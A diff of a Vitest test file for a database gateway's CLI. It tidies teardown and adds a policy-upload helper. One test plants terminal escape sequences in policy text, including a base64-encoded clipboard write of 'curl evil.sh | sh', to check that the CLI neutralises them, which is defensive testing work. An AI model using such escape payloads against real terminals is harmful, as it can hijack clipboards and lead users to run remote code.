@@ -1,10 +1,10 @@
-import fs from "node:fs";
 import postgres from "postgres";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import WebSocket from "ws";
 import { DEFAULT_POLICIES } from "@/lib/gateway/policy/defaults";
 import { jsonOf, runCli } from "../support/cli";
-import { apiCall, login, startGatehouse, type GatehouseProcess } from "../support/gatehouse";
+import { apiCall, type GatehouseProcess, login, startGatehouse, teardown } from "../support/gatehouse";
+import { putPolicies } from "../support/api-fixture";
 import { startPostgres15, type Postgres15 } from "../support/postgres";
 import { appendTerminalEvents, endTerminalSession, insertTerminalSession, type TermEvent } from "../support/terminal-sessions";
 
@@ -56,9 +56,7 @@ describe("audit follow-ups: deleted connections, recording reads, refusal floods
 
   afterAll(async () => {
     await sql?.end();
-    await gh?.stop();
-    await pg?.stop();
-    if (gh) fs.rmSync(gh.dataDir, { recursive: true, force: true });
+    await teardown(gh, pg);
   });
 
   /** A statement run as `user` through Gatehouse's PostgreSQL listener on `connection`. */
@@ -228,8 +226,7 @@ describe("audit follow-ups: deleted connections, recording reads, refusal floods
   describe("server-held text the CLI prints", () => {
     it("policies get shows control characters of the policy text inert on a terminal; --json keeps the exact text", async () => {
       const hostile = `${DEFAULT_POLICIES}\n// ops note \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\x1b[6n\x9b31m end\n`;
-      const put = await apiCall(gh.url, tokens.admin, "PUT", "/policies", { text: hostile, comment: "note" });
-      expect(put.status, JSON.stringify(put.body)).toBe(200);
+      await putPolicies(gh, tokens.admin, hostile, "note");
       const shown = await cli(tokens.admin, ["policies", "get"]);
       expect(shown.code, shown.stderr).toBe(0);
       expect(shown.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
